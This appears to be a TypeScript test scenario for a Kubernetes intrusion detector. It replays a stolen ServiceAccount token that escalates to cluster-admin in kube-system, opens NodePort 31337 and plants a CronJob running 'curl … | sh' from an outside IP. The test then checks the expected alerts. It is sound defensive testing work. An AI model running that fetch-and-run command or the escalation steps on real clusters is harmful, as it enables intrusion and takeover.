import { serviceAccount } from '../actors.ts';
import type { Incident } from './incident.ts';
import {
  clusterRole,
  clusterRoleBinding,
  modestPod,
  NAMESPACES,
  namespace,
  roleBinding,
  serviceAccountObject,
  subject,
  workload,
} from './objects.ts';

const HOME = 'payments';
const ACCOUNT = 'invoice-worker';
const NAME = 'payments-cache';
const RBAC = '/apis/rbac.authorization.k8s.io/v1';

/** An operator that makes a namespace for each customer, with more than that takes. */
const standing = [
  namespace(HOME),
  serviceAccountObject(HOME, ACCOUNT),
  clusterRole(
    'invoice-tenants',
    { apiGroups: [''], resources: ['namespaces'], verbs: ['get', 'list', 'create'] },
    { apiGroups: [''], resources: ['services'], verbs: ['get', 'list', 'create'] },
    { apiGroups: ['batch'], resources: ['cronjobs'], verbs: ['get', 'list', 'create'] },
    { apiGroups: ['rbac.authorization.k8s.io'], resources: ['rolebindings'], verbs: ['create'] },
    { apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterroles'], verbs: ['bind'] },
  ),
  clusterRoleBinding('invoice-tenants', 'invoice-tenants', subject.account(HOME, ACCOUNT)),
  workload('Deployment', HOME, ACCOUNT, { ...modestPod(ACCOUNT), serviceAccountName: ACCOUNT }, 1),
];

const service = {
  apiVersion: 'v1',
  kind: 'Service',
  metadata: { name: 'cache' },
  spec: {
    type: 'NodePort',
    selector: { app: 'cache-warmup' },
    ports: [{ port: 4444, targetPort: 4444, nodePort: 31_337 }],
  },
};

const cronJob = {
  apiVersion: 'batch/v1',
  kind: 'CronJob',
  metadata: { name: 'cache-warmup' },
  spec: {
    schedule: '*/5 * * * *',
    jobTemplate: {
      spec: {
        template: {
          metadata: { labels: { app: 'cache-warmup' } },
          spec: {
            restartPolicy: 'Never',
            containers: [
              {
                name: 'warmup',
                image: 'docker.io/curlimages/curl:8.10.1',
                command: ['sh', '-c', 'curl -fsSL http://203.0.113.66/a.sh | sh'],
              },
            ],
          },
        },
      },
    },
  },
};

export const compromisedServiceAccount: Incident = {
  name: 'compromised-serviceaccount',
  title: 'A compromised ServiceAccount settles in',
  story:
    'The token of a ServiceAccount that creates namespaces for customers was taken from its pod, and is used from another ' +
    'address. The intruder looks around, is refused secrets and a shell in a pod, and creates a namespace. From there they ' +
    'give the default account of the new namespace cluster-admin rights in kube-system, open a port on every node, and let ' +
    'a CronJob fetch and run a script from the internet every five minutes.',
  kind: 'hostile',
  expect: {
    first: { atLeast: 'MEDIUM' },
    second: { atLeast: 'CRITICAL' },
    told: ['first', 'second'],
    facts: {
      actor: 'system:serviceaccount:payments:invoice-worker',
      right: 'invoice-tenants',
      binding: 'ClusterRoleBinding invoice-tenants',
    },
  },
  right: {
    kind: 'right',
    object: 'ClusterRoleBinding invoice-tenants',
    what: `The ServiceAccount ${HOME}/${ACCOUNT} may create namespaces, and bind any ClusterRole, by the ClusterRole invoice-tenants.`,
    signs: ['bind on all ClusterRoles'],
  },
  async run(scene) {
    const { twin } = scene;
    await scene.standing(...standing);
    const worker = {
      ...(await serviceAccount(twin, HOME, ACCOUNT)),
      from: '127.0.30.1',
      userAgent: 'invoice-worker/1.9.2',
    };
    const intruder = { ...(await serviceAccount(twin, HOME, ACCOUNT)), from: '127.0.77.7', userAgent: 'curl/8.14.1' };
    await scene.begin();
    await scene.act(worker, 'looks at the namespaces, as it always does', { path: NAMESPACES }, 200);

    const refused = (object: string, what: string) => ({ kind: 'refusal' as const, object, what });
    await scene.act(intruder, 'looks at the namespaces', { path: NAMESPACES }, 200);
    await scene.act(
      intruder,
      'tries to read its own secrets',
      { path: `${NAMESPACES}/${HOME}/secrets` },
      403,
      refused(`secrets in ${HOME}`, 'The account was refused the secrets of its own namespace.'),
    );
    await scene.act(
      intruder,
      'tries to read all secrets',
      { path: '/api/v1/secrets' },
      403,
      refused('secrets in all namespaces', 'The account was refused all secrets.'),
    );
    const exec = `${NAMESPACES}/kube-system/pods/kube-proxy-x/exec?command=sh&stdin=true&stdout=true`;
    await scene.act(
      intruder,
      'tries to get a shell in kube-system',
      { method: 'POST', path: exec },
      403,
      refused('pods/exec in kube-system', 'The account was refused a shell in kube-system.'),
    );
    await scene.create(intruder, 'creates a namespace', { name: NAME, labels: { 'app.kubernetes.io/name': 'cache' } });
    await scene.look('first');

    const binding = roleBinding('kube-system', 'metrics-reader', 'cluster-admin', subject.account(NAME, 'default'));
    await scene.act(
      intruder,
      'gives its new account everything in kube-system',
      { method: 'POST', path: `${RBAC}/namespaces/kube-system/rolebindings`, body: binding },
      201,
      {
        kind: 'access-change',
        object: 'RoleBinding kube-system/metrics-reader',
        what: `The account bound ${NAME}/default to cluster-admin in kube-system.`,
        signs: ['cluster-admin', 'in another namespace'],
      },
    );
    await scene.act(
      intruder,
      'opens a port on every node',
      { method: 'POST', path: `${NAMESPACES}/${NAME}/services`, body: service },
      201,
      {
        kind: 'exposure',
        object: `Service ${NAME}/cache`,
        what: 'Port 31337 of every node leads into the namespace.',
        signs: ['NodePort 31337'],
      },
    );
    await scene.act(
      intruder,
      'lets a CronJob fetch a script',
      { method: 'POST', path: `/apis/batch/v1/namespaces/${NAME}/cronjobs`, body: cronJob },
      201,
      {
        kind: 'workload',
        object: `CronJob ${NAME}/cache-warmup`,
        what: 'Every five minutes a script from the internet is run.',
        signs: ['curl … | sh', 'image outside the own registry', 'CronJob'],
      },
    );
    await scene.look('second');
  },
};
